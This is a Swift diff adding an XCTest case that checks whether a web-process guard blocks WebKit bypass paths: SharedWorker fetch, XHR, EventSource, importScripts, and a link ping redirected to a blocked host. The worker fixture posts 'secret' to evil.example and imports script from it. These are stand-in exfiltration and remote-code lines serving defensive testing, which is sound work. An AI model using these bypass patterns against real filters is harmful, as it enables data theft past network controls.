@@ -145,6 +145,48 @@ final class WebProcessGuardTests: XCTestCase {
         }
     }
 
+    /// WebKit paths that bypass send-request (issue 20, item 3): a SharedWorker's fetch, XHR,
+    /// EventSource and importScripts, and an `<a ping>` to an approved URL that answers 307 to
+    /// the blocked host (followed in the network process).
+    func testWorkersAndPingsReachNoBlockedHostWithSubresourcesPolicy() {
+        MainActor.assumeIsolated {
+            let worker = """
+                onconnect = function(e) {
+                  try { importScripts('http://evil.example/imported.js'); } catch (x) {}
+                  fetch('http://evil.example/shared-fetch', {method: 'POST', body: 'secret'}).catch(function(){});
+                  var x = new XMLHttpRequest(); x.open('GET', 'http://evil.example/shared-xhr'); x.send();
+                  try { new EventSource('http://evil.example/shared-events'); } catch (x) {}
+                  fetch('/worker-sentinel').then(function(){ e.ports[0].postMessage('started'); }, function(){ e.ports[0].postMessage('started'); });
+                };
+                """
+            let fixture = Fixture(subresources: .policy, routes: [
+                "apple.com/": .html(page("Apple", """
+                    <a id=p href='/after-ping' ping='/ping'>ping</a>
+                    <script>
+                    var started = 'no';
+                    try { var w = new SharedWorker('/worker.js'); w.port.onmessage = function(){ started = 'yes'; }; w.port.start(); }
+                    catch (x) { started = 'refused'; }
+                    </script>
+                    """)),
+                "apple.com/worker.js": .body(worker, mimeType: "text/javascript"),
+                "apple.com/ping": .redirect(307, to: "http://evil.example/pinged"),
+            ])
+            defer { fixture.tearDown() }
+            fixture.open()
+            // The worker runs (and has sent its requests: its sentinel came after them), or cannot start.
+            var started = "no"
+            XCTAssertTrue(UI.wait { started = UI.evaluate("started", in: fixture.window) ?? "no"; return started != "no" })
+            if started == "yes" { fixture.sync("/worker-sentinel") }
+            UI.evaluate("document.getElementById('p').click(); 'ok'", in: fixture.window)
+            XCTAssertTrue(UI.wait { fixture.server.count(path: "/after-ping", host: "apple.com") > 0 }, "the link itself is followed")
+            fixture.window.load(url: "http://apple.com/sentinel")
+            fixture.sync("/sentinel")
+            XCTAssertEqual(fixture.requests(host: "evil.example"), [], "nothing reached the blocked host")
+            XCTAssertEqual(fixture.server.count(path: "/ping", host: "apple.com"), 0, "no ping was sent")
+            XCTAssertEqual(started, "refused", "no SharedWorker starts")
+        }
+    }
+
     func testSubresourcesFromABlockedHostStillLoadWithSubresourcesAllow() {
         MainActor.assumeIsolated {
             let fixture = Fixture(subresources: .allow, routes: [
